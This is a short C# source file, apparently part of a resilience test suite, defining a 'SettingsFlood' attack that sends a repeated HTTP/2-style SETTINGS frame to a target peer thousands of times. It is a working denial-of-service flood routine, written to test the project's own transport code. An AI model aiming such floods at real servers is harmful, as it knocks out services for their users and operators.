using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;
using static ExtProc.Tests.Transport.RawFrames;

namespace ExtProc.Attacks.Runnings;

/// <summary>Changes the stream window over and over; each change is acknowledged.</summary>
internal sealed class SettingsFlood : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target) => target.OnManyAsync(2, async peer =>
    {
        byte[] settings = ((ReadOnlySpan<byte>)Frame(SettingsFrame, 0, 0, [0, 4, 0, 1, 0, 0])).Times(1000);
        for (int round = 0; round < target.Count(20, 600) && !peer.Gone; round++)
        {
            await peer.WriteAsync(settings);
        }
    });
}
